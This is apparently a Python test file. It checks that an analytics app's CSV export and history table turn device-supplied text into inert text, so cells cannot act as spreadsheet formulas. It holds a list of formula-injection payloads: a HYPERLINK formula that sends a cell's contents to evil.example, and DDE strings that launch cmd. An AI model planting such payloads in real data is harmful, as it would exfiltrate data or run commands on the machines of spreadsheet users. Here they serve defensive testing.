"""CSV export formula injection (issue 13 §12): text a device sends (``Person``, ``DeviceID``)
reaches the admin's spreadsheet as text, never as a formula (OWASP: a leading ``'`` for cells
starting with = + - @ tab CR)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pandas as pd

from core.analytics import queries as Q
from core.analytics.spreadsheet import inert_frame, inert_text
from core.events import records as R

T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_device_supplied_formulas_are_exported_as_text(tmp_path):
    from core.events.local import LocalEventStore

    store = LocalEventStore(tmp_path / "events.db")
    # What a device may publish on the door and auth topics: the records are stored as sent.
    door = [R.door_open_record(name, T0 + timedelta(minutes=i), name) for i, name in enumerate(HOSTILE)]
    door.append(R.door_open_record("id001", T0 + timedelta(hours=1), "Taro"))
    store.append("door", door, [f"d{i}" for i in range(len(door))])
    auth = R.auth_log_records("=1+2", T0, "=cap.jpg", [{"Face": {"ExternalImageId": "@Hanako"}}])
    store.append("auth", auth, ["a0"])
    con = store.columnar()
    try:
        door_rows = _rows(Q.history_csv(con, "door", Q.AnalyticsFilter()))
        auth_rows = _rows(Q.history_csv(con, "auth", Q.AnalyticsFilter()))
    finally:
        con.close()

    assert door_rows[0] == ["time", "device", "person"]
    # A CR inside a cell is quoted, so it cannot start a row of its own.
    assert len(door_rows) == len(door) + 1 and all(len(row) == 3 for row in door_rows)
    cells = {(row[1], row[2]) for row in door_rows[1:]}
    assert ("id001", "Taro") in cells  # ordinary text is left alone
    for name in HOSTILE:
        assert ("'" + name, "'" + name) in cells, (name, cells)
    for row in door_rows[1:] + auth_rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert auth_rows[1][1:] == ["'=1+2", "True", "'@Hanako", "'=cap.jpg"]


def test_only_text_cells_change():
    frame = pd.DataFrame({"person": ["=1+1", "Taro", None], "reading": [-3.5, 2.0, 0.0], "ok": [True, False, True]})
    safe = inert_frame(frame)
    assert safe["person"].tolist()[:2] == ["'=1+1", "Taro"] and safe["person"].isna().tolist()[2]
    assert safe["reading"].tolist() == [-3.5, 2.0, 0.0]  # a negative number is a number, not a formula
    assert safe["ok"].tolist() == [True, False, True]
    assert frame["person"].tolist()[0] == "=1+1"  # a copy: the caller's frame is untouched
    assert inert_text(-1) == -1 and inert_text("") == "" and inert_text("a=b") == "a=b"


def test_the_analytics_history_table_shows_formulas_as_text(services):
    """The table's own toolbar downloads what it shows as CSV (Streamlit does not neutralise
    formulas there), so the page shows the inert text too."""
    from tests.analytics.test_pages import open_tab, run_page

    now = datetime.now(UTC)
    services.events.append("door", [R.door_open_record("id001", now, HOSTILE[0])], ["d0"])
    at = run_page("analytics")
    open_tab(at, "History")
    shown = at.get("dataframe")[-1].value
    assert shown.iloc[0].tolist()[1:] == ["id001", "'" + HOSTILE[0]]
